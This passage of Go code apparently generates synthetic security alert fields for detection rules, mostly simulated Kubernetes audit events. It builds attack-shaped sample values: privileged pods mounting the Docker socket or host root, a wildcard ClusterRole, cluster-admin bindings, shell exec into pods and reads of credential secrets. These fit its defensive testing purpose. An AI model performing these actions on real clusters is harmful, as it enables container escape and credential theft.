		return "domain=17(AF_PACKET) type=3 proto=768 "
	case strings.HasPrefix(b.evtType, "rename"):
		return fmt.Sprintf("res=0 olddirfd=-100(AT_FDCWD) oldpath=%s newdirfd=-100(AT_FDCWD) newpath=%s flags=0", b.file, b.path2)
	case strings.HasPrefix(b.evtType, "unlink"), b.evtType == "rmdir":
		return fmt.Sprintf("res=0 dirfd=-100(AT_FDCWD) name=%s flags=0", b.file)
	}
	return fmt.Sprintf("res=0 fd=3(<f>%s)", b.file)
}

func (b *vb) sessionLeader() any {
	if b.host {
		if b.proc.tty || b.prof.interactive {
			return "bash"
		}
		return "systemd"
	}
	s := b.proc.name
	for _, a := range b.chain {
		if a == "containerd-shim" || a == "runc" {
			break
		}
		s = a
	}
	return s
}

func (b *vb) cwd() any {
	switch {
	case len(b.prof.cwd) > 0:
		return b.prof.cwd[b.k%len(b.prof.cwd)]
	case b.host && b.user.uid == 0:
		return "/root/"
	case b.host:
		return "/home/ubuntu/"
	}
	return pick(b.rng, []any{"/", "/app/", "/tmp/"})
}

// ---- k8s audit ----

type auditCase struct {
	user, verb, resource, name, ns, sub, code, reason string
}

var k8sUsers = []string{"jane.doe@example.com", "system:serviceaccount:ci:deployer", "kubernetes-admin", "dev-bob", "oidc:alice@example.com"}
var k8sNamespaces = []string{"default", "payments", "checkout", "frontend", "data", "kube-system", "ci"}

// auditValue resolves a k8s_audit output field for variant k.
func auditValue(r *Rule, key string, k int, rng *rand.Rand) (any, bool) {
	user := k8sUsers[k%len(k8sUsers)]
	ns := k8sNamespaces[(k+1)%len(k8sNamespaces)]
	verb, resource, name, sub, code := "get", "pods", "web-7d9f8b6c5d-x2k4p", "", "200"
	reason := fmt.Sprintf("RBAC: allowed by ClusterRoleBinding \"%s\" of ClusterRole \"cluster-admin\" to User \"%s\"", "admins", user)
	decision := "allow"
	image := pick(rng, []string{"(docker.io/library/alpine:3.20)", "(docker.io/library/ubuntu:24.04)", "(nginx:1.27,busybox:1.36)", "(ghcr.io/example/debug:latest)"})
	switch r.Name {
	case "Disallowed K8s User":
		verb = pick(rng, []string{"get", "list", "patch", "delete"})
		resource = pick(rng, []string{"deployments", "secrets", "configmaps", "pods"})
		name = pick(rng, []string{"payments-api", "db-credentials", "app-config", "web-7d9f8b6c5d-x2k4p"})
	case "Create Privileged Pod", "Create Sensitive Mount Pod":
		verb, code = "create", "201"
		name = fmt.Sprintf("debug-%s", hexish(rng, 5))
	case "Create NodePort Service":
		verb, resource, code = "create", "services", "201"
		name = pick(rng, []string{"debug-np", "web-external", "grafana-np"})
	case "Anonymous Request Allowed":
		user, verb, resource, name = "system:anonymous", "get", "", ""
		reason = "RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\" of ClusterRole \"system:public-info-viewer\" to Group \"system:unauthenticated\""
	case "Attach/Exec Pod":
		verb, sub, code = "create", pick(rng, []string{"exec", "exec", "attach"}), "101"
	case "Create Disallowed Namespace":
		verb, resource, code = "create", "namespaces", "201"
		name = pick(rng, []string{"crypto-test", "tmp-debug", "pentest"})
	case "Attach to cluster-admin Role":
		verb, resource, code = "create", "clusterrolebindings", "201"
		name = pick(rng, []string{"ci-admin", "temp-admin-binding"})
	case "ClusterRole With Wildcard Created":
		verb, resource, code = "create", pick(rng, []string{"clusterroles", "roles"}), "201"
		name = pick(rng, []string{"god-mode", "ci-all", "debug-all"})
	case "K8s Deployment Created":
		verb, resource, code = "create", "deployments", "201"
		name = pick(rng, []string{"payments-api", "checkout-worker", "frontend", "redis"})
	case "K8s Secret Get Successfully":
		verb, resource = "get", "secrets"
		name = pick(rng, []string{"db-credentials", "stripe-api-key", "tls-frontend", "default-token-x2k4p"})
	case "All K8s Audit Events":
		verb = pick(rng, []string{"get", "list", "watch", "update"})
		resource = pick(rng, []string{"pods", "endpoints", "leases", "configmaps"})
	}
	uri := "/api/v1/namespaces/" + ns + "/" + resource + "/" + name
	switch resource {
	case "deployments":
		uri = "/apis/apps/v1/namespaces/" + ns + "/deployments/" + name
	case "clusterroles", "clusterrolebindings":
		uri = "/apis/rbac.authorization.k8s.io/v1/" + resource
	case "roles":
		uri = "/apis/rbac.authorization.k8s.io/v1/namespaces/" + ns + "/roles"
	case "namespaces":
		uri = "/api/v1/namespaces"
	case "":
		uri = pick(rng, []string{"/version", "/api", "/apis/apps/v1", "/openapi/v2"})
	}
	if verb == "create" && resource != "" && resource != "namespaces" && resource != "clusterroles" && resource != "clusterrolebindings" && resource != "roles" {
		uri = uri[:strings.LastIndexByte(uri, '/')]
	}
	if sub != "" {
		uri = "/api/v1/namespaces/" + ns + "/pods/" + name + "/" + sub + "?command=sh&container=web&stdin=true&stdout=true&tty=true"
	}
	switch key {
	case "ka.user.name":
		return user, true
	case "ka.verb":
		return verb, true
	case "ka.uri":
		return uri, true
	case "ka.response.code":
		return code, true
	case "ka.target.name", "ka.resp.name":
		if name == "" {
			return nil, true
		}
		return name, true
	case "ka.target.resource":
		if resource == "" {
			return nil, true
		}
		return resource, true
	case "ka.target.namespace":
		switch resource {
		case "", "namespaces", "clusterroles", "clusterrolebindings":
			return nil, true
		}
		return ns, true
	case "ka.target.subresource":
		if sub == "" {
			return nil, true
		}
		return sub, true
	case "ka.uri.param[command]":
		return pick(rng, []any{"sh", "bash", "/bin/sh"}), true
	case "ka.auth.decision":
		return decision, true
	case "ka.auth.reason":
		return reason, true
	case "ka.req.pod.containers.image":
		return image, true
	case "ka.req.service.ports":
		return `[{"name":"http","nodePort":30080,"port":80,"protocol":"TCP","targetPort":8080}]`, true
	case "ka.req.binding.subjects":
		return pick(rng, []any{`[{"kind":"ServiceAccount","name":"deployer","namespace":"ci"}]`, `[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"dev-bob"}]`}), true
	case "ka.req.role.rules":
		return `[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]`, true
	case "jevt.value[/requestObject/spec/volumes]":
		return pick(rng, []any{
			`[{"hostPath":{"path":"/var/run/docker.sock","type":""},"name":"dockersock"}]`,
			`[{"hostPath":{"path":"/","type":""},"name":"host-root"}]`,
			`[{"hostPath":{"path":"/etc/kubernetes","type":"Directory"},"name":"k8s-etc"}]`,
		}), true
	case "jevt.obj":
		return fmt.Sprintf(`{"apiVersion":"audit.k8s.io/v1","kind":"Event","level":"Metadata","auditID":"%s-%s-%s-%s-%s","stage":"ResponseComplete","requestURI":"%s","verb":"%s","user":{"username":"%s","groups":["system:authenticated"]},"responseStatus":{"metadata":{},"code":%s}}`,
			hexish(rng, 8), hexish(rng, 4), hexish(rng, 4), hexish(rng, 4), hexish(rng, 12), uri, verb, user, code), true
	}
	return nil, false
}
